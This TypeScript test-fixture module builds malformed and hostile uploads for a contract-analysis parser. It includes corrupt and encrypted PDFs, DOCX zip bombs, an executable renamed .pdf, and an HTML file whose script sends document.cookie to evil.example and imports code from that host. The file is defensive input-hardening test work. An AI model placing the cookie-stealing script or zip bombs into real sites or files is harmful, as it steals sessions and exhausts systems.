
import { openSync, readSync, closeSync, } from "node:fs";
import { deflateSync } from "node:zlib";
import { PDFDocument } from "pdf-lib";
import { makePdf } from "../http/documents.js";
import { buildZip, CONTENT_TYPES, crc32, deflatedZeros, encryptWithQpdf, storedEntry } from "../parse/fixtures.js";

export type Expectation =
  | { kind: "error"; http: { status: number; code: string }; cli: { code: string } }
  | { kind: "valid" };

export interface BadInput {
  label: string;
  /** File name sent with the upload (its extension is what the user claims). */
  name: string;
  make(): Promise<Uint8Array>;
  expect: Expectation;
  /** Bombs: the parser must refuse them without the process growing. */
  bomb?: boolean;
  /** For valid inputs: text that must never reach the report (e.g. script content). */
  mustNotContain?: string;
}

const CONTRACT_LINES = [
  "1. Customer Data",
  "1.1 Supplier shall not use Customer Data to train any model.",
  "2. Governing law",
  "2.1 This Agreement is governed by the laws of the Netherlands.",
];

function pngChunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, "ascii");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A grey-scale PNG of "printed lines" (dark bars), like a scanned page. */
export function scannedPagePng(width = 400, height = 560): Uint8Array {
  const raw = Buffer.alloc((width + 1) * height, 0xff);
  for (let y = 0; y < height; y++) {
    raw[y * (width + 1)] = 0; // filter: none
    const inLine = y % 24 >= 8 && y % 24 < 18 && y > 40 && y < height - 40;
    if (!inLine) continue;
    for (let x = 40; x < width - 40; x++) if ((x * 7 + y) % 53 > 6) raw[y * (width + 1) + 1 + x] = 0x22;
  }
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // grey-scale
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk("IHDR", ihdr), pngChunk("IDAT", deflateSync(raw)), pngChunk("IEND", new Uint8Array(0))]);
}

/** A "scan": two pages that are nothing but an embedded image, so there is no text layer. */
export async function scannedPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const image = await pdf.embedPng(scannedPagePng());
  for (let i = 0; i < 2; i++) {
    const page = pdf.addPage([595, 842]);
    page.drawImage(image, { x: 0, y: 0, width: 595, height: 842 });
  }
  return pdf.save();
}


/** The first 64 KiB of the running node binary: a real ELF (or Mach-O) executable header and code. */
function executablePrefix(): Uint8Array {
  const fd = openSync(process.execPath, "r");
  try {
    const buf = Buffer.alloc(64 * 1024);
    const n = readSync(fd, buf, 0, buf.length, 0);
    return buf.subarray(0, n);
  } finally {
    closeSync(fd);
  }
}

/** Pseudo-random bytes from a fixed seed, so the corrupt PDF is the same every run. */
function noise(length: number, seed = 7): Uint8Array {
  const out = new Uint8Array(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

const enc = (s: string) => new TextEncoder().encode(s);

export const SCRIPT_MARKER = "exfiltrate-the-session-cookie";
export const ONE_LINE_BYTES = 10 * 1024 * 1024;
export const NESTING_LEVELS = 10_000;
/** Larger than the 25 MB default of CONTRACTWIJZER_MAX_UPLOAD_MB and of the CLI's maxBytes. */
export const OVERSIZED_BYTES = 26 * 1024 * 1024;

/** One zip bomb for both variants: 300 MB of zeros deflated to well under 1 MB. */
let zeros: Promise<Uint8Array> | undefined;
const bombPayload = () => (zeros ??= deflatedZeros(300));

export const BAD_INPUTS: BadInput[] = [
  {
    label: "truncated PDF",
    name: "afgebroken.pdf",
    make: async () => {
      const good = await makePdf(CONTRACT_LINES);
      return good.subarray(0, Math.floor(good.length / 2));
    },
    expect: { kind: "error", http: { status: 422, code: "E_PDF_CORRUPT" }, cli: { code: "E_PDF_CORRUPT" } },
  },
  {
    label: "corrupt PDF (valid header, random body)",
    name: "kapot.pdf",
    make: async () => Buffer.concat([enc("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog"), noise(20_000)]),
    expect: { kind: "error", http: { status: 422, code: "E_PDF_CORRUPT" }, cli: { code: "E_PDF_CORRUPT" } },
  },
  {
    label: "encrypted PDF (qpdf, AES-256)",
    name: "beveiligd.pdf",
    make: async () => encryptWithQpdf(await makePdf(CONTRACT_LINES)),
    expect: { kind: "error", http: { status: 422, code: "E_PDF_ENCRYPTED" }, cli: { code: "E_PDF_ENCRYPTED" } },
  },
  {
    label: "scanned PDF (page images, no text layer)",
    name: "scan.pdf",
    make: scannedPdf,
    expect: { kind: "error", http: { status: 422, code: "E_PDF_NO_TEXT" }, cli: { code: "E_PDF_NO_TEXT" } },
  },
  {
    label: "oversized file (26 MB)",
    name: "groot.txt",
    make: async () => {
      const line = enc("1.1 De leverancier verwerkt persoonsgegevens uitsluitend in opdracht van de opdrachtgever.\n");
      const out = new Uint8Array(OVERSIZED_BYTES);
      for (let at = 0; at < out.length; at += line.length) out.set(line.subarray(0, Math.min(line.length, out.length - at)), at);
      return out;
    },
    // HTTP refuses the body before reading it; the CLI refuses the file before parsing it.
    expect: { kind: "error", http: { status: 413, code: "E_UPLOAD_TOO_LARGE" }, cli: { code: "E_FILE_TOO_LARGE" } },
  },
  {
    label: "DOCX zip bomb (300 MB declared in the directory)",
    name: "bom.docx",
    bomb: true,
    make: async () =>
      buildZip([
        storedEntry("[Content_Types].xml", CONTENT_TYPES),
        { name: "word/document.xml", data: await bombPayload(), method: 8, uncompressedSize: 300 * 1024 * 1024 },
      ]),
    expect: { kind: "error", http: { status: 413, code: "E_DOCX_TOO_LARGE" }, cli: { code: "E_DOCX_TOO_LARGE" } },
  },
  {
    label: "DOCX zip bomb with lying headers (declares 4 KB, inflates to 300 MB)",
    name: "leugen.docx",
    bomb: true,
    make: async () =>
      buildZip([
        storedEntry("[Content_Types].xml", CONTENT_TYPES),
        { name: "word/document.xml", data: await bombPayload(), method: 8, uncompressedSize: 4096 },
      ]),
    expect: { kind: "error", http: { status: 413, code: "E_DOCX_TOO_LARGE" }, cli: { code: "E_DOCX_TOO_LARGE" } },
  },
  {
    label: "DOCX without word/document.xml",
    name: "leeg-pakket.docx",
    make: async () => buildZip([storedEntry("[Content_Types].xml", CONTENT_TYPES), storedEntry("word/styles.xml", "<w:styles/>")]),
    expect: { kind: "error", http: { status: 415, code: "E_UNKNOWN_TYPE" }, cli: { code: "E_UNKNOWN_TYPE" } },
  },
  {
    label: "DOCX with broken XML",
    name: "kapotte-xml.docx",
    make: async () =>
      buildZip([
        storedEntry("[Content_Types].xml", CONTENT_TYPES),
        storedEntry("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p><w:r><w:t>Artikel 1</w:t></w:r>'),
      ]),
    expect: { kind: "error", http: { status: 422, code: "E_DOCX_INVALID" }, cli: { code: "E_DOCX_INVALID" } },
  },
  {
    label: "PNG image",
    name: "contract.png",
    make: async () => scannedPagePng(),
    expect: { kind: "error", http: { status: 415, code: "E_UNKNOWN_TYPE" }, cli: { code: "E_UNKNOWN_TYPE" } },
  },
  {
    label: "ELF executable named .pdf",
    name: "voorwaarden.pdf",
    make: async () => executablePrefix(),
    expect: { kind: "error", http: { status: 415, code: "E_UNKNOWN_TYPE" }, cli: { code: "E_UNKNOWN_TYPE" } },
  },
  {
    label: "PDF named .docx",
    name: "voorwaarden.docx",
    make: () => makePdf(CONTRACT_LINES),
    expect: { kind: "error", http: { status: 415, code: "E_TYPE_MISMATCH" }, cli: { code: "E_TYPE_MISMATCH" } },
  },
  {
    label: "HTML with scripts, handlers and an iframe",
    name: "voorwaarden.html",
    mustNotContain: SCRIPT_MARKER,
    make: async () =>
      enc(
        [
          "<!doctype html><html><head><title>Voorwaarden</title>",
          `<script>fetch("https://evil.example/?c="+document.cookie) /* ${SCRIPT_MARKER} */</script></head>`,
          `<body onload="${SCRIPT_MARKER}()"><h1>Cloud Services Terms</h1>`,
          "<h2>1. Customer Data</h2><p>1.1 Supplier shall not use Customer Data to train any model.</p>",
          `<script type="module">import("//evil.example/${SCRIPT_MARKER}.js")</script>`,
          `<iframe src="javascript:${SCRIPT_MARKER}()"></iframe>`,
          `<noscript>${SCRIPT_MARKER}</noscript><style>body{background:url(${SCRIPT_MARKER})}</style>`,
          "<h2>2. Governing law</h2><p>2.1 This Agreement is governed by the laws of the Netherlands.</p>",
          `<svg><script>${SCRIPT_MARKER}</script></svg></body></html>`,
        ].join("\n"),
      ),
    expect: { kind: "valid" },
  },
  {
    label: "one 10 MB line",
    name: "een-regel.txt",
    make: async () => {
      const sentence = enc("De leverancier gebruikt de gegevens van de opdrachtgever niet om modellen te trainen en ");
      const out = new Uint8Array(ONE_LINE_BYTES);
      for (let at = 0; at < out.length; at += sentence.length) out.set(sentence.subarray(0, Math.min(sentence.length, out.length - at)), at);
      return out;
    },
    expect: { kind: "valid" },
  },
  {
    label: `HTML lists nested ${NESTING_LEVELS.toLocaleString("en")} levels deep`,
    name: "genest.html",
    make: async () => {
      const open = "<ul><li>De leverancier meldt een datalek binnen 24 uur.".repeat(NESTING_LEVELS);
      const close = "</li></ul>".repeat(NESTING_LEVELS);
      return enc(`<html><body><h1>Artikel 1 Beveiliging</h1>${open}${close}</body></html>`);
    },
    expect: { kind: "valid" },
  },
  {
    label: `Markdown nested ${NESTING_LEVELS.toLocaleString("en")} levels deep (quotes) and 1,000 (indented lists)`,
    name: "genest.md",
    make: async () => {
      const lines = ["# Artikel 1 Beveiliging", "", `${"> ".repeat(NESTING_LEVELS)}- De leverancier meldt een datalek binnen 24 uur.`, ""];
      for (let i = 0; i < 1000; i++) lines.push(`${"  ".repeat(i)}- ${i + 1}. De leverancier meldt een datalek binnen ${i + 1} uur.`);
      return enc(lines.join("\n"));
    },
    expect: { kind: "valid" },
  },
];
